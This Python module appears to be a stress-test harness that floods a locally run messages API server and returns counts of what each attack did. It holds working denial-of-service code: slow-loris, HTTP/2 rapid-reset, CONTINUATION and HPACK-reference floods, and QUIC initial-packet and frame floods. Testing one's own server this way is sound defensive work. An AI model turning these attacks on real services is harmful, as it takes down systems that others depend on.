"""The misbehaviour of a storm: thousands of sockets in one process, until the time is over.

Each attack returns what it did, in numbers. Run by storm.py in a process of its own.

defines: ATTACKS, main
"""

import contextlib
import itertools
import json
import random
import resource
import selectors
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import http2_frames as h2
import quic_frames as quic
from http3_client import Client
from sublimate.v1.messages_pb2 import CreateMessageRequest

TRICKLE_SECONDS = 0.5
"""Between two bytes of one socket."""
READ_BYTES = 4096
UNREAD_EACH, WHOLE_EACH = 20, 10
"""One in so many is served: a storm is no load test."""
RESETS_PER_CONNECTION = 50
QUIC_CLIENTS = 16
LARGE_CLIENTS, LARGE_CHARACTERS = 3, 24_000_000
PIPELINING_CLIENTS = 16
PIPELINED = 2000


def body(max_tokens: int) -> bytes:
    content = [{"role": "user", "content": "Tell a long story."}]
    asked = {"model": "default", "max_tokens": max_tokens, "stream": True, "messages": content}
    return json.dumps(asked).encode()


def head(length: int) -> bytes:
    lines = ["POST /v1/messages HTTP/1.1", "host: localhost", "content-type: application/json"]
    return "\r\n".join([*lines, f"content-length: {length}", "", ""]).encode()


def connect(port: int, small: bool = False) -> socket.socket | None:
    """None if the server takes no more."""
    sock = socket.socket()
    if small:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READ_BYTES)
    sock.settimeout(5)
    try:
        sock.connect(("127.0.0.1", port))
    except OSError:
        sock.close()
        return None
    sock.setblocking(False)
    return sock


def with_reset(sock: socket.socket) -> None:
    """Ends it by RST instead of FIN."""
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


# ---- slow clients --------------------------------------------------------------------------------
def slow_loris(ports: dict[str, int], sockets: int, seconds: float, _: Path) -> dict[str, int]:
    """Half of them trickle their headers, half their bodies, and one in twenty reads no answer. Who
    is sent away comes again."""
    did = {"opened": 0, "sent away": 0, "bytes": 0, "answers begun": 0}
    end = time.monotonic() + seconds
    selector = selectors.DefaultSelector()
    plans: dict[socket.socket, Iterator[bytes]] = {}

    def begin(number: int) -> None:
        kind = number % 2 if number % UNREAD_EACH else 2
        sock = connect(ports["http"], small=kind == 2)
        if sock is None:
            return
        did["opened"] += 1
        whole = head(len(body(4000))) + body(4000)
        first = 0 if kind == 0 else len(head(len(body(4000))))
        if kind == 2:
            first = len(whole)
            did["answers begun"] += 1
        with contextlib.suppress(OSError):
            sock.send(whole[:first])
        plans[sock] = (whole[n : n + 1] for n in range(first, len(whole)))
        if kind != 2:
            selector.register(sock, selectors.EVENT_READ, number)

    for number in range(sockets):
        begin(number)
    while time.monotonic() < end:
        turn = time.monotonic()
        for sock, plan in list(plans.items()):
            byte = next(plan, b"")
            with contextlib.suppress(OSError):
                did["bytes"] += sock.send(byte) if byte else 0
        for key, _ in selector.select(0):
            gone = key.fileobj
            assert isinstance(gone, socket.socket)
            selector.unregister(gone)
            del plans[gone]
            gone.close()
            did["sent away"] += 1
            begin(key.data)
        time.sleep(max(0.0, TRICKLE_SECONDS - (time.monotonic() - turn)))
    for sock in plans:
        sock.close()
    return did


# ---- resets --------------------------------------------------------------------------------------
def tcp_resets(ports: dict[str, int], sockets: int, seconds: float, _: Path) -> dict[str, int]:
    """Connections that ask and are reset: most before the request is whole, some before its answer
    or within it. `sockets` are open at once."""
    did = {"opened": 0, "reset": 0, "whole requests": 0}
    end = time.monotonic() + seconds
    whole = head(len(body(500))) + body(500)
    opened: list[socket.socket] = []
    for number in itertools.count():
        if time.monotonic() > end:
            break
        sock = connect(ports["http"])
        if sock is None:
            continue
        did["opened"] += 1
        part = whole[: number % len(whole)] if number % WHOLE_EACH else whole
        did["whole requests"] += part is whole
        with contextlib.suppress(OSError):
            sock.send(part)
        opened.append(sock)
        if len(opened) >= sockets:
            for one in opened:
                with_reset(one)
            did["reset"] += len(opened)
            opened.clear()
    for one in opened:
        with_reset(one)
    did["reset"] += len(opened)
    return did


def rapid_resets(ports: dict[str, int], sockets: int, seconds: float, _: Path) -> dict[str, int]:
    """HTTP/2: streams that are opened with a whole call and reset at once, on all connections."""
    did = {"connections": 0, "streams": 0, "sent away": 0}
    request = CreateMessageRequest(model="default", max_tokens=500)
    request.messages.add(role="user", text="Tell a long story.")
    call, cancel = h2.message(request.SerializeToString()), struct.pack("!I", h2.CANCEL)
    fields = h2.call_head("/sublimate.v1.Messages/StreamMessage")

    def streams(first: int) -> bytes:
        parts: list[bytes] = []
        for n in range(first, first + 2 * RESETS_PER_CONNECTION, 2):
            parts.append(h2.frame(h2.HEADERS, h2.END_HEADERS, n, fields))
            parts.append(h2.frame(h2.DATA, h2.END_STREAM, n, call))
            parts.append(h2.frame(h2.RST_STREAM, 0, n, cancel))
        return b"".join(parts)

    end = time.monotonic() + seconds
    opened: list[h2.Connection] = []
    first = 1
    while time.monotonic() < end:
        while len(opened) < sockets and time.monotonic() < end:
            with contextlib.suppress(OSError):
                opened.append(h2.Connection(ports["grpc"], 5))
                did["connections"] += 1
        part = streams(first)
        first += 2 * RESETS_PER_CONNECTION
        for one in list(opened):
            if time.monotonic() > end:
                break
            if one.send(part):
                did["streams"] += RESETS_PER_CONNECTION
            one.read(0.0001)
            one.frames.clear()
            if one.is_closed:
                did["sent away"] += 1
                opened.remove(one)
                one.__exit__()
    for one in opened:
        one.__exit__()
    return did


def tls_in_clear(ports: dict[str, int], sockets: int, seconds: float, _: Path) -> dict[str, int]:
    """Handshakes that fail: no TLS is spoken to the TLS ports, so many at once."""
    did = {"opened": 0}
    end = time.monotonic() + seconds
    for number in itertools.count():
        if time.monotonic() > end:
            return did
        sock = connect(ports["grpc"] if number % 4 else ports["https"])
        if sock is None:
            continue
        did["opened"] += 1
        with contextlib.suppress(OSError):
            sock.send(h2.PREFACE)
        opened = RECENT.pop(0) if len(RECENT) >= sockets else None
        RECENT.append(sock)
        if opened is not None:
            opened.close()
    return did


RECENT: list[socket.socket] = []


def quic_storm(
    ports: dict[str, int], sockets: int, seconds: float, certificate: Path
) -> dict[str, int]:
    """HTTP/3: first packets from thousands of addresses that never answer, and connections that
    reset one stream after the other until they are closed for it."""
    did = {"first packets": 0, "connections": 0, "resets": 0, "closed for it": 0}
    end = time.monotonic() + seconds
    pattern = Client(ports["h3"], certificate)
    first = bytearray(pattern.quic.datagrams_to_send(time.monotonic())[0][0])
    del pattern
    spoofed = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(sockets)]
    clients: list[Client] = []
    draw = random.Random(1)
    while time.monotonic() < end:
        for sock in draw.sample(spoofed, min(100, len(spoofed))):
            first[6:14] = draw.randbytes(8)  # a destination that is new: what is sealed is noise
            with contextlib.suppress(OSError):
                sock.sendto(first, ("127.0.0.1", ports["h3"]))
            did["first packets"] += 1
        if len(clients) < QUIC_CLIENTS:
            clients.append(Client(ports["h3"], certificate))
            did["connections"] += 1
        for client in list(clients):
            if client.handshake is not None and client.may_begin():
                stream = client.begin("POST", "/v1/messages", body(500))
                client.send()
                client.quic.reset_stream(stream, 0x10C)
                client.quic.stop_stream(stream, 0x10C)
                did["resets"] += 1
            client.turn(0.0005)
            if client.ended is not None:
                did["closed for it"] += 1
                clients.remove(client)
                client.close()
    for sock in spoofed:
        sock.close()
    for client in clients:
        client.close()
    return did


# ---- floods --------------------------------------------------------------------------------------
LIST = "/sublimate.v1.Messages/ListModels"
DATAGRAMS_PER_LOOK = 16
FLOOD_BYTES = 1 << 16
"""Sent at once."""


def http2_flood(first: bytes, parts: list[bytes]) -> "Attack":
    """One connection after the other: `first`, and then the parts in turn until it is ended."""

    def flood(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
        did = {"connections": 0, "KiB": 0, "ended for it": 0}
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                connection = h2.Connection(ports["grpc"], 5)
            except OSError:
                continue
            with connection:
                did["connections"] += 1
                connection.send(first)
                for part in itertools.cycle(parts):
                    if time.monotonic() > end:
                        break
                    if not connection.send(part):
                        did["ended for it"] += 1
                        break
                    did["KiB"] += len(part) >> 10
        return did

    return flood


def references(number: int, count: int) -> bytes:
    """A call whose head refers to a field of 4,000 bytes so many times."""
    size = bytes([127]) + h2.integer(4000 - 127)
    block = h2.call_head(LIST) + b"\x40\1x" + size + b"a" * 4000 + b"\xbe" * count
    return h2.headers(number, block) + h2.frame(h2.DATA, h2.END_STREAM, number, h2.message(b""))


def resets() -> list[bytes]:
    block, reset = h2.call_head(LIST), struct.pack("!I", h2.CANCEL)
    each = [
        h2.frame(h2.HEADERS, h2.END_HEADERS, n, block) + h2.frame(h2.RST_STREAM, 0, n, reset)
        for n in range(1, 200_001, 2)
    ]
    return [b"".join(each[at : at + 500]) for at in range(0, len(each), 500)]


def repeated(frame: bytes) -> list[bytes]:
    return [frame * max(1, FLOOD_BYTES // len(frame))]


OPENED = h2.frame(h2.HEADERS, 0, 1, h2.call_head(LIST))
LITERALS = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x", b"y" * 100) * 150)


def quic_gaps(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
    """First packets with pieces of a hello between which others are missing; 500 of one client."""
    did = {"clients": 0, "datagrams": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        stranger = quic.Stranger(ports["h3"])
        did["clients"] += 1
        for first in range(500):
            offsets = [1000 + 2 * (60 * first + n) for n in range(60)]
            stranger.send(b"".join(map(quic.crypto, offsets)))
            did["datagrams"] += 1
            if time.monotonic() > end:
                break
        stranger.close()
    return did


def http3_flood(frames: Callable[[], list[bytes]]) -> "Attack":
    """One connection after the other, each with those frames in the place of the body of its first
    request, and all of them, whatever the server says meanwhile."""

    def flood(ports: dict[str, int], _: int, seconds: float, certificate: Path) -> dict[str, int]:
        did = {"connections": 0, "datagrams": 0, "ended for it": 0}
        contents = quic.packets(frames())
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            client = Client(ports["h3"], certificate)
            while client.handshake is None and client.ended is None and time.monotonic() < end:
                client.turn(0.05)
            if client.handshake is not None:
                did["connections"] += 1
                client.begin("POST", "/v1/messages", b"{", is_end=False)
                client.send()
                for number, content in enumerate(contents):
                    quic.send(client, content)
                    did["datagrams"] += 1
                    if number % DATAGRAMS_PER_LOOK == 0:
                        client.turn(0)
                        if client.ended is not None or time.monotonic() > end:
                            break
            did["ended for it"] += client.is_told_to_end
            client.vanish()
        return did

    return flood


def large_bodies(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
    """Three clients have texts of 28 MB counted, one after the other."""
    did = {"requests": 0, "answers": 0}
    words = random.Random(1).choices("alpha beta wörter 日本 x1 foo_bar 12345".split(), k=4_000_000)
    message = {"role": "user", "content": " ".join(words)[:LARGE_CHARACTERS]}
    body = json.dumps({"model": "default", "messages": [message]}, ensure_ascii=False).encode()
    path = "/v1/messages/count_tokens"
    head = f"POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
    sent = f"{head}connection: close\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body
    end = time.monotonic() + seconds

    def ask() -> None:
        while time.monotonic() < end:
            did["requests"] += 1
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", ports["http"]), 60) as sock,
            ):
                sock.sendall(sent)
                did["answers"] += sock.recv(READ_BYTES).startswith(b"HTTP/1.1 ")

    clients = [threading.Thread(target=ask) for _ in range(LARGE_CLIENTS)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    return did


def pipelining(ports: dict[str, int], _: int, seconds: float, __: Path) -> dict[str, int]:
    """Small requests of unknown paths, thousands in a row, on a few connections that are read."""
    did = {"connections": 0, "bytes": 0, "ended for it": 0}
    burst = memoryview(b"GET /x HTTP/1.1\r\nhost: localhost\r\n\r\n" * PIPELINED)
    left: dict[object, memoryview] = {}
    end = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < end:
            while len(selector.get_map()) < PIPELINING_CLIENTS:
                if (sock := connect(ports["http"])) is None:
                    break
                did["connections"] += 1
                selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
            for key, events in selector.select(0.1):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    if events & selectors.EVENT_WRITE:
                        rest = left.get(sock) or burst
                        size = sock.send(rest)
                        left[sock] = rest[size:]
                        did["bytes"] += size
                    is_open = not events & selectors.EVENT_READ or bool(sock.recv(1 << 20))
                except BlockingIOError:
                    continue
                except OSError:
                    is_open = False
                if not is_open:
                    selector.unregister(sock)
                    left.pop(sock, None)
                    sock.close()
                    did["ended for it"] += 1
    return did


Attack = Callable[[dict[str, int], int, float, Path], dict[str, int]]
ATTACKS: dict[str, Attack] = {
    "slow-loris": slow_loris,
    "TCP resets": tcp_resets,
    "HTTP/2 rapid resets": rapid_resets,
    "HTTP/3 resets": quic_storm,
    "TLS ports in clear": tls_in_clear,
}
FLOODS: dict[str, Attack] = {
    "HTTP/1.1 large bodies": large_bodies,
    "HTTP/1.1 pipelining": pipelining,
    "HTTP/2 references": http2_flood(b"", [references(n, 4000) for n in range(1, 2001, 2)]),
    "HTTP/2 long references": http2_flood(b"", [references(n, 16_000) for n in range(1, 401, 2)]),
    "HTTP/2 CONTINUATION": http2_flood(OPENED, [LITERALS * 4]),
    "HTTP/2 empty CONTINUATION": http2_flood(OPENED, repeated(h2.frame(h2.CONTINUATION, 0, 1))),
    "HTTP/2 resets": http2_flood(b"", resets()),
    "HTTP/2 SETTINGS": http2_flood(b"", repeated(h2.frame(h2.SETTINGS, 0, 0))),
    "HTTP/2 PING": http2_flood(b"", repeated(h2.frame(h2.PING, 0, 0, bytes(8)))),
    "QUIC gaps of a hello": quic_gaps,
    "QUIC gaps of a body": http3_flood(
        lambda: [quic.stream(0, 1000 + 2 * n) for n in range(60_000)]
    ),
    "QUIC PING": http3_flood(lambda: [b"\1"] * 60_000),
    "QUIC small frames": http3_flood(
        lambda: [quic.stream(0, 6 + n, b"\0\1x"[n % 3 :][:1]) for n in range(60_000)]
    ),
}
"""Those that make as much work as they can out of few bytes."""
ATTACKS |= FLOODS


def main() -> None:
    """Arguments: name, ports as JSON, sockets, seconds, certificate. Prints JSON."""
    name, ports, sockets, seconds, certificate = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    did = ATTACKS[name](json.loads(ports), int(sockets), float(seconds), Path(certificate))
    sys.stdout.write(json.dumps(did))


if __name__ == "__main__":
    main()
